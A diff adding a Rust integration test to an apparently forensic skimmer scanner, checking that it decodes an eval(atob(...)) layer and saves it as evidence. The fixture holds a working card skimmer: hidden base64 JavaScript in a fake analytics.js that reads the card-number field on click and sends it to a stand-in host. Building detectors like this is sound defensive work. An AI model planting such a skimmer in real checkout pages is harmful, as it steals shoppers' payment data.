@@ -171,3 +171,56 @@ fn an_unwritable_evidence_path_is_a_usage_error() {
         .code(2)
         .stderr(predicate::str::contains("--evidence"));
 }
+
+/// The code a skimmer hid (`eval(atob(…))`) is evidence too: the decoded layer is kept as an
+/// artifact of its own, named in the index by the script it came from, so a responder can
+/// read what ran without decoding it again.
+#[test]
+fn decoded_layers_are_kept_beside_their_script() {
+    let work = tempfile::tempdir().unwrap();
+    let hidden = "document.querySelector('#pay').addEventListener('click',function(){var n=document.getElementById('cc_number').value;new Image().src='https://metrics-cdn.example/p?c='+encodeURIComponent(n);});";
+    use base64::Engine as _;
+    let packed = base64::engine::general_purpose::STANDARD.encode(hidden);
+    let page = "<!doctype html><html><head><meta charset=\"utf-8\"><title>Checkout</title></head><body>\
+<form action=\"/pay\"><input id=\"cc_number\" name=\"cc_number\" autocomplete=\"cc-number\"><button id=\"pay\">Pay</button></form>\
+<script src=\"js/analytics.js\"></script></body></html>";
+    let site = work.path().join("site");
+    std::fs::create_dir_all(site.join("js")).unwrap();
+    std::fs::write(site.join("checkout.html"), page).unwrap();
+    std::fs::write(
+        site.join("js/analytics.js"),
+        format!("/* analytics v2 */\neval(atob('{packed}'));\n"),
+    )
+    .unwrap();
+    let ev = work.path().join("case-9");
+    let out = skimscan()
+        .args(["scan", "--format", "json", "--evidence"])
+        .arg(&ev)
+        .arg(site.join("checkout.html"))
+        .output()
+        .unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(1),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let index: serde_json::Value =
+        serde_json::from_slice(&std::fs::read(ev.join("index.json")).unwrap()).unwrap();
+    let decoded: Vec<&String> = index
+        .as_object()
+        .unwrap()
+        .iter()
+        .filter(|(_, v)| {
+            v["sources"].as_array().unwrap().iter().any(|s| {
+                s.as_str()
+                    .is_some_and(|s| s.starts_with("decoded from ") && s.ends_with("analytics.js"))
+            })
+        })
+        .map(|(sha, _)| sha)
+        .collect();
+    assert_eq!(decoded.len(), 1, "{index:#}");
+    let text = std::fs::read_to_string(ev.join("artifacts").join(decoded[0])).unwrap();
+    assert!(text.contains("metrics-cdn.example/p?c="), "{text}");
+    assert!(sha256sum_check(&ev).status.success());
+}
